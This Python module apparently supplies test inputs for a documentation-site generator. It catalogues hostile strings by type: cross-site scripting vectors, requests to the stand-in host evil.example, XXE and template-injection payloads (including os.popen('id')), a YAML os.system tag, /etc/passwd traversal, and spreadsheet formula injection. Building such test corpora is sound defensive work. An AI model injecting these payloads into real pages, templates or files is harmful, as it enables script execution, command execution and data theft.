"""Hostile strings of our own, by what they try. What they run if they can is ``alert``, or a request to EVIL."""

# ruff: noqa: E501, RUF001 - some letters are meant to be taken for others, and a string is one line

from __future__ import annotations

__all__ = ["CONTEXTS", "EVIL", "STRINGS"]

EVIL = "evil.example"

_ELEMENTS = (
    *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script/x>"),
    *(f"<script src=//{EVIL}/x.js></script>", "<script>alert(1)", "<script\n>alert(1)</script\n>"),
    *("<script type=module>import('data:text/javascript,alert(1)')</script>", "<<script>alert(1)//<</script>"),
    *("<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'", "<img/src/onerror=alert(1)>"),
    *(f"<img src=//{EVIL}/p.png>", f"<img srcset=//{EVIL}/p.png>", "<image href=x onerror=alert(1)>"),
    *("<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//"),
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    f"<svg><use href=//{EVIL}/x.svg#x /></svg>",
    f"<svg><image href=//{EVIL}/x.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    *(
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    ),
    *(f"<iframe src=//{EVIL}></iframe>", f"<object data=//{EVIL}></object>", f"<embed src=//{EVIL}>"),
    *("<object data=javascript:alert(1)></object>", "<embed src=data:text/html,<script>alert(1)</script>>"),
    *(
        "<video src=x onerror=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onerror=alert(1)>",
    ),
    *("<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>"),
    *(
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
    ),
    *("<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<frameset onload=alert(1)>"),
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<link rel=prefetch href=//{EVIL}/x>",
    *(f"<style>@import '//{EVIL}/x.css';</style>", "<style>*{x:expression(alert(1))}</style>"),
    *(f"<meta http-equiv=refresh content='0;url=//{EVIL}'>", f"<base href=//{EVIL}/>"),
    *(f"<form action=//{EVIL}><input type=submit>", "<button formaction=javascript:alert(1)>x</button>"),
    *("<a href=javascript:alert(1)>x</a>", f"<a href=x ping=//{EVIL}>x</a>", "<area href=javascript:alert(1)>"),
    *("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script>"),
    *(
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext>",
        "<textarea>",
        "<title>",
        "<style>",
        "<!--",
        "<!",
    ),
    *("<table background=javascript:alert(1)><tr><td>", f"<p style=background:url(//{EVIL}/x)>x</p>"),
    *("<p style=animation-name:md-x onanimationstart=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>"),
    *("<custom-tag onclick=alert(1)>x</custom-tag>", "<x tabindex=1 onfocus=alert(1) autofocus>x</x>"),
    *("<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>"),
    *("<form id=__config>", "<a id=__search name=__palette>x</a>", "<input name=getElementById>"),
    *(
        "<?php system('id') ?>",
        "<%= 1234*5678 %>",
        "<?xml version='1.0'?><x/>",
        "<![CDATA[<script>alert(1)</script>]]>",
    ),
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{EVIL}/x">]><x>&e;</x>',
    f"<?xml-stylesheet href='//{EVIL}/x.xsl' type='text/xsl'?>",
)

_BREAKERS = (
    *(
        '">',
        "'>",
        "`>",
        "-->",
        "--!>",
        "]]>",
        "</title>",
        "</script>",
        "</style>",
        "</textarea>",
        "</noscript>",
    ),
    *(
        "</svg>",
        "</template>",
        "</select>",
        "</a>",
        "</td></tr></table>",
        "</p></div></article>",
        '\\">',
        "&quot;>",
    ),
)
_AFTER_BREAKERS = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"),
    *("<a href=javascript:alert(1)>x</a>", f"<link rel=stylesheet href=//{EVIL}/b.css>"),
)

_EVENTS = (
    *("click", "dblclick", "mouseover", "mouseenter", "mousemove", "pointerover", "pointerrawupdate", "focus"),
    *("focusin", "blur", "load", "error", "toggle", "beforetoggle", "animationstart", "animationend", "wheel"),
    *("transitionend", "transitionrun", "scroll", "scrollend", "copy", "beforeinput", "contextmenu", "keydown"),
    *(
        "touchstart",
        "resize",
        "hashchange",
        "popstate",
        "pageshow",
        "beforeprint",
        "message",
        "securitypolicyviolation",
    ),
)

_ADDRESSES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript:alert`1`", "javascript://x/%0aalert(1)"),
    *(
        "javascript&colon;alert(1)",
        "java&#10;script:alert(1)",
        "java&Tab;script:alert(1)",
        "&#106;avascript:alert(1)",
    ),
    *("&#x6A;avascript:alert(1)", "javascript%3aalert(1)", "%6aavascript:alert(1)", "\\javascript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    *(
        "data:image/svg+xml,<svg onload=alert(1)>",
        "data:,x",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:x",
    ),
    *(
        "view-source:x",
        "about:blank",
        f"ftp://{EVIL}",
        f"//{EVIL}",
        f"/\\{EVIL}",
        f"\\\\{EVIL}",
        f"https:{EVIL}",
    ),
    *(
        f"https://{EVIL}/x.png",
        f"https://a@{EVIL}/",
        "../../../../etc/passwd",
        "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    ),
    *("?x=<script>", "#<img src=x onerror=alert(1)>", "x.svg", "x.html", "index.html", "incident.yaml"),
)
_LINKED = (
    *("[x]({})", "![x]({})", "<{}>", "[x](<{}>)", "[x][r]\n\n[r]: {}", "[![x]({})]({})"),
    *("[x]({} 'y\" onmouseover=\"alert(1)')", "[<img src=x onerror=alert(1)>]({})"),
)

_MARKDOWN = (
    *(
        "x{: onclick=alert(1)}",
        "[x](y){ onclick=alert(1) }",
        "# x {#__config onclick=alert(1)}",
        "[TOC]",
        "[[x]]",
    ),
    *('--8<-- "../../../../etc/passwd"', ';--8<-- "mkdocs.yml"', "{% include 'mkdocs.yml' %}", "--8<--"),
    *(
        '!!! note "<script>alert(1)</script>"\n    x',
        '=== "<img src=x onerror=alert(1)>"\n    x',
        "??? x\n    y",
    ),
    *("x[^1]\n\n[^1]: <script>alert(1)</script>", "*[x]: <script>", ":smile: :material-account:", "++ctrl+x++"),
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```js onclick=alert(1)\nalert(1)\n```",
    "~~~{.x onclick=alert(1)}\nx\n~~~",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- <script>alert(1)</script>\n- [ ] <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "    <script>alert(1)</script>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\unicode{<img src=x onerror=alert(1)>}\\)",
    "<!-- x --><script>alert(1)</script><!-- -->",
    '[x](y "</a><script>alert(1)</script>")',
    '![<script>alert(1)</script>](x "<img src=x onerror=alert(1)>")',
    "*<em>*</em>*",
    "[" * 60 + "x" + "](y)" * 60,
    "**" * 80,
    "***",
    "===\n---",
    "\\<script\\>alert(1)\\</script\\>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;",
    "&NewLine;&Tab;&nbsp;&zwnj;&#0;&#xD800;&#x110000;",
)

_TEMPLATES = (
    *(
        "{{ 1234*5678 }}",
        "{{1234*'7'}}",
        "{{ config }}",
        "{{ self.__init__.__globals__ }}",
        "{{ ''.__class__.__mro__ }}",
    ),
    *(
        "{% raw %}",
        "{% endraw %}",
        "{% for x in [1] %}x{% endfor %}",
        "{# x",
        "#}",
        "{%",
        "{{",
        "}}",
        "%}",
        "{{{x}}}",
    ),
    *(
        "{% import 'os' as os %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum|attr('x') }}",
    ),
    *(
        "${1234*5678}",
        "#{1234*5678}",
        "<%= 1234*5678 %>",
        "@(1234*5678)",
        "[[${1234*5678}]]",
        "*{1234*5678}",
        "{php}x{/php}",
        "$(id)",
        "`id`",
        "%s%n%x",
    ),
    *(
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "<%- include('/etc/passwd') %>",
    ),
    *(
        "!ENV [HOME]",
        "!!python/object/apply:os.system [id]",
        "!include /etc/passwd",
        "<<: *x",
        "&x y",
        "*x",
        "%YAML 1.1",
    ),
)

_FRONT_MATTER = (
    *(
        "---\ntitle: x\n---\n",
        "---\nhide: [navigation]\n---\n# x",
        "+++\ntitle = 'x'\n+++",
        "---",
        "... x",
        "--- x",
    ),
    *(
        "title: <script>alert(1)</script>",
        "template: ../../x.html",
        "icon: ../../../etc/passwd",
        "search:\n  exclude: true",
    ),
)

_OURS = (
    *(
        "<!--figure:timeline-->",
        "<!--figure:whys-->",
        "<!--drawing:0-->",
        "<!--drawing:99-->",
        "<!--figure:../x-->",
    ),
    *(
        "```pirgen\ntimeline: x\n```",
        "<!-- pirgen -->",
        "# pirgen: allow PIR605 because x",
        "not recorded x",
        "none <b>",
    ),
    *(
        "incidents/index.md",
        "../index",
        "index",
        "404.html",
        "search/search_index.json",
        "llms.txt",
        "con",
        "aux.txt",
    ),
)

_SCRIPTS = (
    *("</script><script>alert(1)</script>", "<!--<script>", "<!--<script></script>", "\\u003cscript\\u003e"),
    *(
        '"};alert(1);//',
        "';alert(1);//",
        "`${alert(1)}`",
        "*/alert(1)/*",
        "\\';alert(1);//",
        '\\";alert(1);//',
        "\\",
    ),
    *(
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "valueOf",
        '{"__proto__":{"x":1}}',
    ),
    *(
        "undefined()",
        "null()",
        "NaN",
        "true",
        "0",
        "-1",
        "1e999",
        "[object Object]",
        "(?<x>(a+)+)$",
        "$&$1$`",
        "%E0%A4%A",
    ),
    *(
        "$('<img src=x onerror=alert(1)>')",
        "//# sourceMappingURL=//evil.example/x",
        "import('//evil.example/x')",
    ),
)

_STYLES = (
    *(
        "expression(alert(1))",
        f"url(//{EVIL}/x)",
        f"@import '//{EVIL}/x';",
        "}*{color:red}",
        "/*",
        "*/",
        "\\3c script",
    ),
    *(f";background:url(//{EVIL}/x)", "-moz-binding:url(x)", "behavior:url(x)", "--x:</style>", "var(--x)"),
)

_SHEETS = (
    *(
        '=HYPERLINK("//evil.example","x")',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("//evil.example")',
    ),
    *('"', '""', '",=1,"', "a;b", "a,b", "'=1", "|", "%0A=1", '"\n=1'),
)

_LETTERS = (
    *(
        "שלום <script>alert(1)</script>",
        'مرحبا ">',
        "＜script＞alert(1)＜/script＞",
        "﹤img src=x onerror=alert(1)﹥",
    ),
    *(
        "ｊａｖａｓｃｒｉｐｔ:alert(1)",
        "ſcript",
        "İ<ı>",
        "e\u0301\u0301\u0301" * 40,
        "👨‍👩‍👧‍👦🏳️‍🌈🇪🇺",
        "障害" * 30,
    ),
    *(
        "ﷺ" * 20,
        "\ue000\uf8ff",
        "\U000f0000",
        "İstanbul ß ﬃ ǅ",
        "Ω≈ç√∫˜µ≤≥÷",
        "‘’“”«»",
        "\u2010\u2011\u2013\u2014\u2212",
    ),
    *(
        "ab" * 200,
        "Donaudampfschifffahrtsgesellschaft" * 8,
        "a/b/../c",
        "a\\b",
        "a:b",
        "a?b#c",
        "CON",
        "😀" * 70,
        "😀",
    ),
)

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_ELEMENTS,
            *(before + after for before in _BREAKERS for after in _AFTER_BREAKERS),
            *(f"x{quote} on{event}={quote}alert(1){quote} x={quote}" for event in _EVENTS for quote in "\"'"),
            *(form.replace("{}", address) for address in _ADDRESSES for form in _LINKED),
            *_MARKDOWN,
            *_TEMPLATES,
            *_FRONT_MATTER,
            *_OURS,
            *_SCRIPTS,
            *_STYLES,
            *_SHEETS,
            *_LETTERS,
        )
    )
)

CONTEXTS = ("{}", "x {}", "{} x", "**{}**", "[{}](https://example.org)", "`{}", "> {}", "\n{}\n\n{}")
"""Where a string may be in a text."""
